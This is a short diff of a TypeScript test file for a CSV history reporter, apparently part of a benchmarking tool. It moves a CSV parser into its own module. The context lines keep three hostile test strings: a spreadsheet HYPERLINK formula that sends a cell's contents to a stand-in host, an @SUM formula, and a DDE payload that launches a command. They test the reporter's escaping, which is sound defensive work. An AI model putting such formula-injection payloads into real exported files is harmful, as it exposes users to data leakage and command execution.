@@ -11,31 +11,11 @@ import type { RunRecord } from '@rtbench/core/schema';
 import { historyView, reporterFor, viewOfRun } from '../src/index.ts';
 import { renderHistoryCsv } from '../src/reporters/history.ts';
 import { syntheticRun } from '../../../test/compare-synthetic.ts';
+import { parseCsv } from './csv-records.ts';
 
 const HOSTILE_CASE = '=HYPERLINK("http://x.example/?"&A1,"click"), "quoted"\nsecond line';
 const HOSTILE_VARIANT = '@SUM(1+1) node';
 const HOSTILE_SUITE = '+cmd|\' /C calc\'!A0';
-
-/** RFC 4180 records: quoted fields may hold commas, quotes (doubled) and line breaks. */
-function parseCsv(text: string): string[][] {
-  const records: string[][] = [];
-  let field = '';
-  let record: string[] = [];
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i]!;
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
-      else if (ch === '"') quoted = false;
-      else field += ch;
-    } else if (ch === '"' && field === '') quoted = true;
-    else if (ch === ',') record.push(field), (field = '');
-    else if (ch === '\n') record.push(field), records.push(record), (record = []), (field = '');
-    else field += ch;
-  }
-  if (field !== '' || record.length) record.push(field), records.push(record);
-  return records;
-}
 
 /** A run of two cases on two variants, the first case and variant and the suite renamed to hostile text. */
 function hostileRun(seed = 1, factor = 1): RunRecord {
